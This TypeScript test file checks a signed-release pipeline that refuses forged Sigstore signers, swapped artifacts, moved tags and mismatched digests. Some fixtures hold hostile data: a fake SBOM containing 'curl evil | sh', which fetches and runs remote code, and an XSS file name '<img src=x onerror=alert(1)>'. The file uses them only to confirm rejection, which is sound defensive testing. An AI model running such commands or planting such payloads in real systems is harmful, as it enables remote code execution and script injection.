import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { sha256 } from '@secure-build/common/core/digest';
import { byCodeUnits } from '@secure-build/common/core/order';
import { Problem } from '@secure-build/common/core/problem';
import { exitOf, reasonsOf } from '@secure-build/common/core/verdict';
import { openEvidence } from '@secure-build/common/domain/evidence/evidence';
import { sealEvidence } from '@secure-build/common/domain/evidence/seal';
import type { Ports } from '@secure-build/common/domain/ports';
import { workflowProvenance } from '@secure-build/common/domain/provenance/certified-predicates';
import { vouchedFor } from '@secure-build/common/domain/provenance/own-workflows';
import type { LocalAsset } from '@secure-build/common/domain/provenance/publishing/release-asset';
import { provenanceStatement } from '@secure-build/common/domain/provenance/statement';
import type { GithubContext } from '@secure-build/common/domain/run-context';
import { buildersStatement } from '@secure-build/common/domain/signing/builders-file';
import { keyWithoutWitness } from '@secure-build/common/domain/signing/identity';
import { signStatement } from '@secure-build/common/domain/signing/signer';
import { noTrust } from '@secure-build/common/domain/signing/trust';
import { nodeFiles } from '@secure-build/common/edges/files';
import { openSigners } from '@secure-build/common/edges/signers/registry';
import { defaultSetup } from '@secure-build/common/edges/signers/signer-kind';
import { producerOf } from '@secure-build/common/edges/suite-version';
import { predicateTypes, statementBytes } from '@secure-build/common/formats/in-toto';
import { parsePublicKeyPem } from '@secure-build/common/formats/public-key';
import { parseSigningConfig } from '@secure-build/common/formats/signing-config';
import { BUNDLE_MEDIA_TYPE } from '@secure-build/common/formats/sigstore-bundle';
import { suiteRepository } from '@secure-build/common/formats/suite-uris';
import { requireStillProved } from '../../../actions/provenance/src/publish-proof.ts';
import type { LabRelease } from '../../lab/github/releases.ts';
import { serviceHttp } from '../../lab/github/service-http.ts';
import {
  authorityKeyIdentifier,
  extendedKeyUsage,
  keyUsage,
  uriAlternativeName,
} from '../../lab/sigstore/certificate-extensions.ts';
import { pushClaims } from '../../lab/sigstore/oidc-issuer.ts';
import {
  type AttestWorld,
  type AttestWorldOptions,
  attestWorld,
  parameters,
} from '../../support/attest-world.ts';
import { claimsFor } from '../../support/certified-build.ts';
import { fakePorts } from '../../support/fake-ports.ts';
import { accepting, makeKey, makeSigner, problem, signedBundle } from '../../support/signing.ts';
import { forgeBundle, makeForge } from '../../support/sigstore-forge.ts';
import { temporaryFolder } from '../../support/temporary-folder.ts';

const APP = 'the built application';
const TAG = 'v1.2.3';

interface Signed {
  readonly world: AttestWorld;
  readonly handoff: string;
  /** As the attest job has handed it over. */
  readonly evidence: string;
  readonly folder: string;
}

/** A run up to the end of `build.yml`. */
async function built(
  t: TestContext,
  {
    files = { 'app.tgz': APP },
    ...options
  }: AttestWorldOptions & { readonly files?: Readonly<Record<string, string>> } = {},
): Promise<Signed> {
  const world = await attestWorld(t, options);
  world.github.releases.tags.set(TAG, { commit: pushClaims.sha });
  const handoff = await world.built(files);
  const { outcome, folder } = await world.job({
    ...world.sigstore,
    level: options.builder === 'attest' ? 'auto' : '3',
    handoff,
    evidence: await world.sbomEvidence(),
    ...(options.builder === 'attest' ? {} : { 'external-parameters': parameters() }),
    'workflow-identity': world.identity(),
  });
  assert.equal(outcome.verdict.kind, 'pass', reasonsOf(outcome.verdict).join('\n'));
  return { world, handoff, evidence: String(outcome.outputs.handoff), folder };
}

/** The job of `promote.yml`. */
const promote = (
  { world, handoff, evidence }: Signed,
  changes: Readonly<Record<string, string>> = {},
): ReturnType<AttestWorld['job']> =>
  world.job({
    mode: 'publish',
    handoff,
    evidence,
    'trusted-root-path': String(world.sigstore['trusted-root-path']),
    'workflow-identity': world.identity('promote'),
    ...changes,
  });

interface Decision {
  readonly verdict?: unknown;
  readonly about?: readonly string[];
  /** Workflow of the suite that signs. */
  readonly by?: string;
  readonly claims?: Readonly<Record<string, string>>;
  /** Of the first file. */
  readonly name?: string;
  /** A statement of provenance in its place. */
  readonly isProvenance?: boolean;
  /** A list of builders in its place, about this commit. */
  readonly commit?: string;
  /** The files after the first lie in the evidence folder. */
  readonly isKept?: boolean;
  /** Of what the SHA-512 of the last file is, where it is listed. */
  readonly sha512Of?: string;
}

/** A job after `build.yml` that signs a decision into the evidence, seals it and hands it over. */
async function decided(signed: Signed, decisions: readonly Decision[] = [{}]): Promise<Signed> {
  const { world, folder } = signed;
  const { clock } = world.github.ports;
  const ports: Ports = {
    ...world.github.ports,
    files: nodeFiles,
    http: serviceHttp(world.github.services, { clock, files: nodeFiles }),
  };
  const { claims } = world.github.job;
  const before = { ...claims };
  const evidence = openEvidence(nodeFiles, folder, producerOf('policy-gate'));
  for (const [index, decision] of decisions.entries()) {
    const { verdict = 'pass', about = [APP], by = 'gate', claims: others = {}, name = 'app.tgz' } = decision;
    const workflow = `ORG/SUITE/.github/workflows/${by}.yml@refs/tags/v1.4.0`;
    Object.assign(claims, { job_workflow_ref: workflow, ...others });
    const [signer] = await openSigners(['keyless'], {
      ports,
      context: {
        kind: 'workflow',
        workspace: '/',
        defaultEvidencePath: folder,
        github: { serverUrl: 'https://github.com', repository: pushClaims.repository } as GithubContext,
      },
      setup: {
        ...defaultSetup,
        instance: 'custom',
        online: false,
        signingConfig: parseSigningConfig(readFileSync(String(world.sigstore['signing-config-path'])), 'lab'),
        trustedRootPath: String(world.sigstore['trusted-root-path']),
      },
    });
    const subjects = about.map((text, number) => ({
      name: number === 0 ? name : `app-${number}.tgz`,
      digest: {
        sha256: sha256(text),
        ...(decision.sha512Of === undefined || number < about.length - 1
          ? {}
          : { sha512: createHash('sha512').update(decision.sha512Of).digest('hex') }),
      },
    }));
    const statement =
      decision.commit !== undefined
        ? buildersStatement({
            repository: suiteRepository,
            version: '1.4.0',
            commit: decision.commit,
            workflows: new Map(vouchedFor),
          })
        : decision.isProvenance === true
          ? provenanceStatement(
              subjects,
              workflowProvenance(claimsFor({ job_workflow_ref: workflow, ...others })),
            )
          : statementBytes(subjects, predicateTypes.policyDecision, { verdict: verdict as string });
    if (decision.isProvenance === true) await evidence.addSubjects(subjects);
    for (const [number, text] of about.entries()) {
      if (decision.isKept !== true || number === 0) continue;
      const kept = { name: `artifacts/app-${number}.tgz`, bytes: Buffer.from(text) };
      await evidence.write([{ ...kept, kind: 'artifact', mediaType: 'application/octet-stream' }]);
    }
    const { bundle, verified } = await signStatement(signer, statement, clock.now(), {});
    await evidence.write([
      {
        name: `attestations/decision${index === 0 ? '' : `-${index}`}.sigstore.json`,
        kind: 'attestation',
        bytes: bundle,
        mediaType: BUNDLE_MEDIA_TYPE,
        subjects: verified.artifacts,
      },
    ]);
    await sealEvidence(nodeFiles, evidence, signer, clock.now());
  }
  for (const name of Object.keys(claims)) Reflect.deleteProperty(claims, name);
  Object.assign(claims, before);
  const { outcome } = await world.job({ mode: 'hand-over', kind: 'evidence', 'evidence-path': folder });
  return { ...signed, evidence: String(outcome.outputs.handoff) };
}

const only = ({ world }: Signed): LabRelease => {
  const [release, ...others] = world.github.releases.releases;
  assert.ok(release);
  assert.equal(others.length, 0);
  return release;
};

test('what build.yml has made becomes a release with bundle, SBOM and offline kit', async (t) => {
  const signed = await built(t);
  const { outcome } = await promote(signed);
  assert.equal(outcome.verdict.kind, 'pass');
  assert.deepEqual(
    ['status', 'verified', 'level', 'release-url', 'subject-count'].map((name) => outcome.outputs[name]),
    ['published', true, 3, 'https://github.com/octo-org/demo/releases/tag/v1.2.3', 1],
  );
  const release = only(signed);
  assert.equal(release.draft, false);
  assert.deepEqual(
    release.assets.map(({ name }) => name).sort(byCodeUnits),
    [
      'VERIFY.md',
      'app.cdx.json',
      'app.cdx.sigstore.json',
      'app.tgz',
      'expected-identity.txt',
      'provenance.sigstore.json',
      'trusted_root.json',
      'trusted_root.jsonl',
    ].sort(byCodeUnits),
  );
  assert.match(outcome.summary.text, /not immutable/);
  assert.doesNotMatch(outcome.summary.text, /gh release verify/);
  assert.match(outcome.summary.text, /✓[^\n]*C10/);
  assert.equal(outcome.annotations[0]?.kind, 'warning');
});

test('the job that publishes asks for no identity', async (t) => {
  const signed = await built(t);
  const before = signed.world.asked.length;
  await promote(signed);
  assert.deepEqual(
    signed.world.asked.slice(before).filter(({ pathname }) => pathname === '/token'),
    [],
  );
});

// ---- Bar 11: a crash after each step

test('after a crash at each step nothing is public without a verified bundle, and a second run completes', async (t) => {
  const signed = await built(t);
  const { releases } = signed.world.github;
  const changes: string[] = [];
  releases.onChange = (change) => void changes.push(change);
  await promote(signed);
  const steps = [...changes];
  assert.deepEqual([steps.at(0), steps.at(-1), steps.length], ['create', 'publish', 10]);
  const bundle = readFileSync(`${signed.folder}/attestations/provenance.sigstore.json`);
  for (const [index, step] of steps.entries()) {
    releases.releases.length = 0;
    let seen = 0;
    releases.onChange = () => {
      seen += 1;
      if (seen === index + 1) throw new Error('power cut');
    };
    await assert.rejects(promote(signed), /power cut/, step);
    assert.equal(only(signed).draft, step !== 'publish');
    changes.length = 0;
    releases.onChange = (change) => void changes.push(change);
    const { outcome } = await promote(signed);
    assert.equal(outcome.verdict.kind, 'pass');
    assert.deepEqual(changes, steps.slice(index + 1), `after ${step}`);
    const { draft, assets } = only(signed);
    const kept = assets.find(({ name }) => name === 'provenance.sigstore.json');
    assert.deepEqual([draft, Buffer.from(kept?.bytes ?? '').equals(bundle), assets.length], [false, true, 8]);
  }
});

// ---- The decision of the policy gate

for (const { why, decisions, always, reason } of [
  { why: 'there is none, and none is asked for', decisions: [], always: false },
  { why: 'there is none', decisions: [], always: true, reason: /is needed \("require-decision: always"\)/ },
  { why: 'it is a pass about exactly these files', decisions: [{}], always: true },
  { why: 'it is a fail', decisions: [{ verdict: 'fail' }], reason: /is "fail", not "pass"|is "fail"/ },
  { why: 'it is waived', decisions: [{ verdict: 'waived' }], reason: /is "waived", not "pass"/ },
  { why: 'it is no text', decisions: [{ verdict: 1 }], reason: /unreadable/ },
  { why: 'one of two is a fail', decisions: [{}, { verdict: 'fail' }], reason: /is "fail"/ },
  {
    why: 'it is about another file',
    decisions: [{ about: ['another'] }],
    reason: /the statement is about "app\.tgz"|changed: expected/,
  },
  {
    why: 'it is about one more file',
    decisions: [{ about: [APP, 'another'] }],
    reason: /not about exactly the files|artifact-missing|neither in the evidence/,
  },
  {
    why: 'it is about one more file, which the evidence holds',
    decisions: [{ about: [APP, 'another'], isKept: true }],
    reason: /not about exactly the files/,
  },
  {
    why: 'build.yml has signed it',
    decisions: [{ by: 'build' }],
    reason: /a builder signed the decision, not gate\.yml of the suite/,
  },
  {
    why: 'reproduce.yml has signed it',
    decisions: [{ by: 'reproduce' }],
    reason: /"reproduce\.yml of the suite" signed the decision, not gate\.yml/,
  },
  {
    why: 'reproduce.yml has signed it, beside one of the gate',
    decisions: [{}, { by: 'reproduce' }],
    always: true,
    reason: /"reproduce\.yml of the suite" signed the decision, not gate\.yml/,
  },
  {
    why: 'a workflow of somebody else has signed it',
    decisions: [{ claims: { job_workflow_ref: 'evil/suite/.github/workflows/gate.yml@refs/tags/v1.4.0' } }],
    reason: /expected the workflow that signed/,
  },
  {
    why: 'the gate of another commit has signed it (SEC-038)',
    decisions: [{ claims: { job_workflow_sha: '1'.repeat(40) } }],
    reason: /expected the commit of the workflow that signed/,
  },
  {
    why: 'the gate of another repository has signed it',
    decisions: [{ claims: { repository_id: '1' } }],
    reason: /expected the id of the source repository/,
  },
  {
    why: 'it was signed in another run',
    decisions: [{ claims: { run_id: '1' } }],
    reason: /signed in another run/,
  },
] satisfies readonly {
  why: string;
  decisions: readonly Decision[];
  always?: boolean;
  reason?: RegExp;
}[]) {
  test(`a decision ${reason === undefined ? 'lets the release pass' : 'stops the release'}: ${why}`, async (t) => {
    const signed = await built(t);
    const after = decisions.length === 0 ? signed : await decided(signed, decisions);
    const { outcome } = await promote(after, { 'require-decision': always === true ? 'always' : 'auto' });
    if (reason === undefined) {
      assert.equal(outcome.verdict.kind, 'pass', reasonsOf(outcome.verdict).join('\n'));
      assert.equal(only(after).draft, false);
      assert.equal(
        only(after).assets.some(({ name }) => name === 'decision.sigstore.json'),
        decisions.length > 0,
      );
      return;
    }
    assert.equal(exitOf(outcome.verdict), 1);
    assert.match(reasonsOf(outcome.verdict).join('\n'), reason);
    assert.deepEqual([outcome.outputs.status, outcome.outputs.verified], ['not-verified', false]);
    assert.deepEqual(after.world.github.releases.releases, [], 'no draft was touched');
  });
}

test('a decision stops the release: whoever is named as the builder has signed it', async (t) => {
  const signed = await decided(await built(t, { builder: 'attest' }), [{ by: 'attest' }]);
  const { outcome } = await promote(signed, {
    level: '2',
    'require-decision': 'always',
    'expected-identity':
      'signer-workflow: ORG/SUITE/.github/workflows/attest.yml\nsource-repository: octo-org/demo\nsource-repository-id: 104200300',
  });
  assert.deepEqual(reasonsOf(outcome.verdict), [
    'attestations/decision.sigstore.json: a builder signed the decision, not gate.yml of the suite',
  ]);
  assert.deepEqual(signed.world.github.releases.releases, []);
});

// ---- Who built, and how

test('attest.yml is not the builder that is expected, and level 3 is more than it gives', async (t) => {
  const signed = await built(t, { builder: 'attest' });
  const stranger = await promote(signed);
  assert.equal(exitOf(stranger.outcome.verdict), 5);
  assert.match(reasonsOf(stranger.outcome.verdict).join('\n'), /expected the workflow that signed/);
  const named = {
    'expected-identity':
      'signer-workflow: ORG/SUITE/.github/workflows/attest.yml\nsource-repository: octo-org/demo\nsource-repository-id: 104200300',
  };
  const low = await promote(signed, named);
  assert.match(reasonsOf(low.outcome.verdict).join('\n'), /build level 3 was asked for, 2 is shown/);
  assert.deepEqual(signed.world.github.releases.releases, []);
  const enough = await promote(signed, { ...named, level: '2' });
  assert.deepEqual([enough.outcome.verdict.kind, enough.outcome.outputs.level], ['pass', 2]);
});

for (const { why, identity } of [
  { why: 'no workflow is named', identity: () => '' },
  {
    why: "the caller's own job names itself",
    identity: (world: AttestWorld) =>
      JSON.stringify({
        ...JSON.parse(world.identity('promote')),
        workflow_repository: 'octo-org/demo',
        workflow_file_path: '.github/workflows/build.yml',
      }),
  },
]) {
  test(`without a release of the suite nobody is trusted by default: ${why}`, async (t) => {
    const signed = await built(t);
    const given = { 'workflow-identity': identity(signed.world) };
    await assert.rejects(promote(signed, given), problem('verify/not-asked', /Call promote\.yml/));
    assert.deepEqual(signed.world.github.releases.releases, []);
  });
}

test('another commit of build.yml than the one that publishes is nobody (SEC-038)', async (t) => {
  const signed = await built(t);
  const claims = { job_workflow_sha: '1'.repeat(40) };
  const { evidence } = await decided(signed, [{ isProvenance: true, by: 'build', claims }]);
  const { outcome } = await promote({ ...signed, evidence });
  assert.match(
    reasonsOf(outcome.verdict).join('\n'),
    /expected the commit of the workflow that signed \(OID \.10\)/,
  );
  assert.deepEqual(signed.world.github.releases.releases, []);
});

test('inputs of the build are held to what is expected', async (t) => {
  const signed = await built(t);
  const { outcome } = await promote(signed, { 'expected-inputs': '{"preset":"go"}' });
  assert.match(reasonsOf(outcome.verdict).join('\n'), /expected the input "preset" to be "go", got "npm"/);
  assert.deepEqual(signed.world.github.releases.releases, []);
});

// ---- On the way

test('SEC-115 SEC-142 an artifact that was exchanged after the gate is no hand-over, and no draft is touched', async (t) => {
  const signed = await decided(await built(t));
  const { workflowArtifacts } = signed.world.github;
  for (const artifact of workflowArtifacts.artifacts) artifact.bytes = Buffer.from('PK evil');
  await assert.rejects(promote(signed), problem('handoff/mismatch'));
  assert.deepEqual(signed.world.github.releases.releases, []);
});

test('evidence of another build of the run is no evidence about these files', async (t) => {
  const signed = await built(t);
  const handoff = await signed.world.built({ 'app.tgz': 'another build' });
  const { outcome } = await promote({ ...signed, handoff });
  assert.notEqual(outcome.verdict.kind, 'pass');
  assert.deepEqual(signed.world.github.releases.releases, []);
});

test('a file that the provenance does not name is not released beside one that it names', async (t) => {
  const signed = await built(t);
  const handoff = await signed.world.built({ 'app.tgz': APP, 'extra.tgz': 'extra' });
  const { outcome } = await promote({ ...signed, handoff });
  assert.match(reasonsOf(outcome.verdict).join('\n'), /"extra\.tgz": no provenance/);
  assert.deepEqual(signed.world.github.releases.releases, []);
});

test('provenance by a workflow of ours that builds nothing is none', async (t) => {
  const signed = await built(t);
  const extra = { about: ['extra'], name: 'extra.tgz', isProvenance: true };
  const { evidence } = await decided(signed, [extra]);
  const handoff = await signed.world.built({ 'app.tgz': APP, 'extra.tgz': 'extra' });
  const { outcome } = await promote({ ...signed, evidence, handoff }, { level: '2' });
  assert.equal(outcome.verdict.kind, 'fail');
  assert.deepEqual(reasonsOf(outcome.verdict), [
    '"extra.tgz": no provenance of the expected builder is about it',
  ]);
});

const statedOfCommits: readonly {
  readonly why: string;
  readonly commit: string;
  readonly by: string;
  readonly reason?: RegExp;
}[] = [
  { why: 'the commit of the release travels with it', commit: pushClaims.sha, by: 'release' },
  {
    why: 'another commit ends it',
    commit: 'd'.repeat(40),
    by: 'release',
    reason: /decision\.sigstore\.json: asked about .*; the statement is about "v1\.4\.0" gitCommit:d{40}/,
  },
  {
    why: 'the commit ends it, where a workflow that we do not have has signed',
    commit: pushClaims.sha,
    by: 'releases',
    reason: /decision\.sigstore\.json: /,
  },
];
for (const { why, commit, by, reason } of statedOfCommits) {
  test(`SEC-038 what is stated of ${why}`, async (t) => {
    const signed = await decided(await built(t), [{ commit, by }]);
    const { outcome } = await promote(signed);
    if (reason === undefined) {
      assert.equal(outcome.verdict.kind, 'pass', reasonsOf(outcome.verdict).join('\n'));
      assert.ok(only(signed).assets.some(({ name }) => name === 'builders.sigstore.json'));
    } else {
      assert.equal(outcome.verdict.kind, 'fail');
      assert.match(reasonsOf(outcome.verdict).join('\n'), reason);
      assert.deepEqual(signed.world.github.releases.releases, []);
    }
  });
}

for (const { why, sha512Of, isExact } of [
  { why: 'both are of it', sha512Of: 'more', isExact: true },
  { why: 'one is of another file', sha512Of: 'evil', isExact: false },
]) {
  test(`SEC-062 a decision that lists two digests of one of two files, where ${why}, is ${isExact ? '' : 'not '}about both`, async (t) => {
    const files = { 'app.tgz': APP, 'app-1.tgz': 'more' };
    const signed = await decided(await built(t, { files }), [{ about: [APP, 'more'], sha512Of }]);
    const { outcome } = await promote(signed);
    const reasons = outcome.verdict.kind === 'pass' ? [] : reasonsOf(outcome.verdict);
    assert.equal(outcome.verdict.kind, isExact ? 'pass' : 'fail', reasons.join('\n'));
    const said = reasons.some((reason) => /is not about exactly the files/.test(reason));
    assert.equal(said, !isExact, reasons.join('\n'));
  });
}

test('files of two sources are no release', async (t) => {
  const signed = await built(t);
  const claims = { sha: 'b'.repeat(40) };
  const { evidence } = await decided(signed, [
    { about: ['extra'], name: 'extra.tgz', isProvenance: true, by: 'build', claims },
  ]);
  const handoff = await signed.world.built({ 'app.tgz': APP, 'extra.tgz': 'extra' });
  const { outcome } = await promote({ ...signed, evidence, handoff }, { level: '2' });
  assert.match(reasonsOf(outcome.verdict).join('\n'), /the files were built from several sources/);
  assert.deepEqual(signed.world.github.releases.releases, []);
});

test('bundles that are downloaded and prove nothing keep the draft a draft', async () => {
  const signer = keyWithoutWitness(parsePublicKeyPem(makeKey().publicPem, 'key'));
  const handedOver = {
    files: [{ name: 'app.tgz', sizeBytes: APP.length, sha256: sha256(APP) }],
    filesFolder: '/files',
    accepted: { trust: noTrust, signers: [signer], now: new Date(0) },
    minimumLevel: 3,
    expectedInputs: {},
  } as const;
  const { files } = fakePorts({
    files: { '/bundle': '{"mediaType":"another"}', '/files/app.tgz': APP },
  }).ports;
  const asset: LocalAsset = {
    name: 'provenance.sigstore.json',
    path: '/bundle',
    role: 'bundle',
    sizeBytes: 1,
    sha256: sha256(APP),
  };
  for (const paths of [new Map(), new Map([[asset, '/bundle']])]) {
    const again = requireStillProved(files, handedOver, paths);
    await assert.rejects(again, problem('store/differs', /downloaded again, does not verify/));
  }
});

for (const { why, sha512Of, refusal } of [
  { why: 'both are of it', sha512Of: APP, refusal: undefined },
  {
    why: 'one is of another file',
    sha512Of: 'evil',
    refusal: problem(
      'store/differs',
      /downloaded again, does not verify[\s\S]*though its sha256 is the same/,
    ),
  },
]) {
  test(`SEC-062 a downloaded bundle that lists two digests of a released file, where ${why}`, async () => {
    const signer = makeSigner();
    const digest = { sha256: sha256(APP), sha512: createHash('sha512').update(sha512Of).digest('hex') };
    const payload = statementBytes([{ name: 'app.tgz', digest }], 'https://example.com/p', {});
    const { files } = fakePorts({
      files: { '/bundle': signedBundle(signer, payload), '/files/app.tgz': APP },
    }).ports;
    const asset: LocalAsset = {
      name: 'app.sigstore.json',
      path: '/bundle',
      role: 'bundle',
      sizeBytes: 1,
      sha256: sha256(APP),
    };
    const again = requireStillProved(
      files,
      {
        files: [{ name: 'app.tgz', sizeBytes: APP.length, sha256: sha256(APP) }],
        filesFolder: '/files',
        accepted: accepting(signer),
        minimumLevel: 0,
        expectedInputs: {},
      },
      new Map([[asset, '/bundle']]),
    );
    await (refusal === undefined ? again : assert.rejects(again, refusal));
  });
}

for (const { why, name, text, code } of [
  {
    why: 'is no SBOM at all',
    name: 'sbom/install.sh',
    text: '#!/bin/sh\ncurl evil | sh\n',
    code: 'json/invalid',
  },
  {
    why: 'is another one than the signed one',
    name: 'sbom/app.cdx.json',
    text: '{"bomFormat":"CycloneDX","specVersion":"1.6","metadata":{}}',
    code: 'verify/identity',
  },
  {
    why: 'is one more',
    name: 'sbom/more.cdx.json',
    text: '{"bomFormat":"CycloneDX","specVersion":"1.5"}',
    code: 'verify/identity',
  },
] as const) {
  test(`a file of sealed evidence that ${why} is not released as an SBOM`, async (t) => {
    const signed = await built(t);
    const evidence = openEvidence(nodeFiles, signed.folder, producerOf('sbom'));
    const bytes = Buffer.from(text);
    await evidence.write([{ name, kind: 'sbom', bytes, mediaType: 'application/json' }]);
    const after = await decided(signed);
    await assert.rejects(promote(after), problem(code));
    assert.deepEqual(after.world.github.releases.releases, [], 'no draft was touched');
  });
}

// ---- Tag and names

test('SEC-125 E_TAG_MOVED: nothing is published beside another source, and the draft is named', async (t) => {
  const signed = await built(t);
  const { releases } = signed.world.github;
  releases.tags.set(TAG, { commit: 'b'.repeat(40) });
  await assert.rejects(promote(signed), problem('release/tag-moved', /Tag v1\.2\.3 points to b{40}/));
  releases.tags.set(TAG, { commit: pushClaims.sha });
  releases.onChange = (change) => {
    if (change === 'upload app.tgz') releases.tags.set(TAG, { commit: 'b'.repeat(40) });
  };
  await assert.rejects(
    promote(signed),
    problem('release/tag-moved', /The draft was not published\.[\s\S]*The draft 7001 of release v1\.2\.3/),
  );
  assert.equal(only(signed).draft, true);
});

test('another tag of the same commit may be released; what is no tag may not', async (t) => {
  const signed = await built(t);
  signed.world.github.releases.tags.set('release/1', { commit: pushClaims.sha });
  const { outcome } = await promote(signed, { tag: 'release/1' });
  assert.equal(outcome.outputs['release-url'], 'https://github.com/octo-org/demo/releases/tag/release%2F1');
  for (const tag of ['--draft', 'v1 2', 'a..b', 'v1\u202e', 'refs/tags/'])
    await assert.rejects(promote(signed, { tag }), problem('input/invalid', /is no name of a tag/), tag);
});

test('what was built from a branch needs the input "tag"', async (t) => {
  const ref = 'refs/heads/main';
  const signed = await built(t, {
    claims: { ref, workflow_ref: `octo-org/demo/.github/workflows/release.yml@${ref}` },
  });
  await assert.rejects(promote(signed), problem('input/invalid', /input "tag" is needed/));
  assert.equal((await promote(signed, { tag: TAG })).outcome.verdict.kind, 'pass');
});

for (const { why, files, code } of [
  { why: 'a name that GitHub would change', files: { 'my app.tgz': APP }, code: 'subject/name' },
  { why: 'a name that begins with a period', files: { '.app': APP }, code: 'subject/name' },
  { why: 'two files of one name', files: { 'a/app.tgz': APP, 'b/app.tgz': 'b' }, code: 'subject/collision' },
  { why: 'a name of the offline kit', files: { 'VERIFY.md': APP }, code: 'subject/collision' },
] as const) {
  test(`names are judged before GitHub is asked for a release: ${why}`, async (t) => {
    const signed = await built(t, { files });
    await assert.rejects(promote(signed), problem(code));
    assert.ok(signed.world.asked.every(({ pathname }) => !pathname.includes('/releases')));
  });
}

test('SEC-072 more files than a release takes are refused before anything about them is proved', async (t) => {
  const signed = await built(t);
  const names = Array.from({ length: 1001 }, (_, index) => [`app-${index}.tgz`, ''] as const);
  const handoff = await signed.world.built(Object.fromEntries(names));
  const before = signed.world.asked.length;
  await assert.rejects(promote({ ...signed, handoff }), problem('subject/limit', /1001 files/));
  const fetched = signed.world.asked.slice(before).filter(({ pathname }) => pathname.endsWith('/zip'));
  assert.equal(fetched.length, 1, 'the evidence was not even fetched');
});

for (const contents of ['read', 'none']) {
  test(`SEC-123 with "contents: ${contents}" the run ends with exit 3 and the YAML of what it takes`, async (t) => {
    const signed = await built(t);
    const { repository, permissions } = signed.world.github.job;
    // A public repository may be read by everybody.
    Object.assign(repository, { visibility: 'private' });
    Object.assign(permissions, { contents });
    await assert.rejects(promote(signed), (error) => {
      assert.ok(error instanceof Problem);
      assert.equal(error.exit, 3);
      return problem('service/refused', /^ {4}permissions:\n {6}contents: write$/m)(error);
    });
  });
}

// ---- What GitHub says of an immutable release

interface Attested {
  readonly san?: string;
  readonly predicate?: Readonly<Record<string, unknown>>;
  readonly without?: string;
}

/** GitHub's own Sigstore, which certifies no issuer and has no logs, and its attestation of a release. */
function releaseAttester(forge = makeForge({ organization: 'github.example', logs: [], ctLogs: [] })) {
  return {
    forge,
    attest({ assets, tag }: LabRelease, { san, predicate, without }: Attested = {}) {
      const names = assets.filter(({ name }) => name !== without);
      const statement = {
        _type: 'https://in-toto.io/Statement/v1',
        subject: [
          { uri: `pkg:github/octo-org/demo@${tag}`, digest: { sha1: pushClaims.sha } },
          ...names.map(({ name, bytes }) => ({ name, digest: { sha256: sha256(bytes) } })),
        ],
        predicateType: 'https://in-toto.io/attestation/release/v0.2',
        predicate: {
          repository: 'octo-org/demo',
          repositoryId: pushClaims.repository_id,
          tag,
          ...predicate,
        },
      };
      return forgeBundle(forge, {
        content: { payload: Buffer.from(JSON.stringify(statement)) },
        extensions: () => [
          keyUsage('digitalSignature'),
          extendedKeyUsage('codeSigning'),
          authorityKeyIdentifier(forge.ca.leaf.key.spki),
          uriAlternativeName(san ?? 'https://dotcom.releases.github.com'),
        ],
        timestamps: [{}],
      });
    },
  };
}

for (const { why, attested, verdict, text } of [
  { why: 'holds', attested: {}, verdict: 'pass', text: /attested by GitHub: yes, verified/ },
  {
    why: 'is not there yet',
    attested: undefined,
    verdict: 'pass',
    text: /GitHub has no attestation of release/,
  },
  {
    why: 'is of another repository',
    attested: { predicate: { repositoryId: '1' } },
    verdict: 'fail',
    text: /"repositoryId", expected "104200300"/,
  },
  {
    why: 'is signed by somebody else',
    attested: { san: 'https://evil.releases.example' },
    verdict: 'fail',
    text: /the name \(SAN\)/,
  },
  {
    why: 'lacks an asset',
    attested: { without: 'provenance.sigstore.json' },
    verdict: 'fail',
    text: /does not name the asset "provenance\.sigstore\.json"/,
  },
  {
    why: 'is of another tag, and so of no concern',
    attested: { predicate: { tag: 'v9' } },
    verdict: 'pass',
    text: /GitHub has no attestation/,
  },
] as const) {
  test(`an immutable release is looked up in the attestation store: the attestation ${why}`, async (t) => {
    const signed = await built(t);
    const { github } = signed.world;
    const { forge, attest } = releaseAttester();
    const root = join(temporaryFolder(t), 'github_root.json');
    writeFileSync(root, JSON.stringify(forge.rootJson));
    github.releases.immutableReleases = true;
    github.releases.onImmutable = (release) => {
      if (attested === undefined) return;
      github.attestations.stored.push({
        id: 1,
        digests: release.assets.map(({ bytes }) => sha256(bytes)),
        bundle: attest(release, attested),
      });
    };
    const roots = `${String(signed.world.sigstore['trusted-root-path'])}\n${root}`;
    const { outcome } = await promote(signed, { 'trusted-root-path': roots });
    assert.equal(outcome.verdict.kind, verdict, reasonsOf(outcome.verdict).join('\n'));
    assert.match(`${outcome.summary.text}\n${reasonsOf(outcome.verdict).join('\n')}`, text);
    assert.deepEqual([only(signed).draft, only(signed).immutable], [false, true]);
    assert.match(outcome.summary.text, /<code>gh release verify v1\.2\.3 --repo octo-org\/demo<\/code>/);
    assert.equal(outcome.outputs.verified, verdict === 'pass');
    const again = await promote(signed, { 'trusted-root-path': roots });
    assert.equal(again.outcome.verdict.kind, verdict);
    assert.match(again.outcome.headline, /was published before/);
  });
}

test('SEC-123 an attestation store that may not be read is told as a missing right, and that the release is published', async (t) => {
  const signed = await built(t);
  const { github } = signed.world;
  github.releases.immutableReleases = true;
  // A public repository may be read by everybody.
  Object.assign(github.job.repository, { visibility: 'private' });
  Object.assign(github.job.permissions, { attestations: 'none' });
  await assert.rejects(
    promote(signed),
    problem(
      'service/refused',
      /^ {4}permissions:\n {6}attestations: read$[\s\S]*release v1\.2\.3 of octo-org\/demo is published/m,
    ),
  );
  assert.equal(only(signed).draft, false);
});

test('a summary of hostile names stays whole', async (t) => {
  const hostile = '<img src=x onerror=alert(1)>';
  const signed = await built(t, { files: { 'app.tgz': APP } });
  const handoff = await signed.world.built({ [hostile]: 'x', '[x](x)': 'y', '`a` and b': 'z' });
  const { outcome } = await promote({ ...signed, handoff });
  assert.notEqual(outcome.verdict.kind, 'pass');
  assert.match(outcome.summary.text, /onerror/);
  assert.doesNotMatch(outcome.summary.text, /<img|\[x\]\(x\)|`a`/);
});
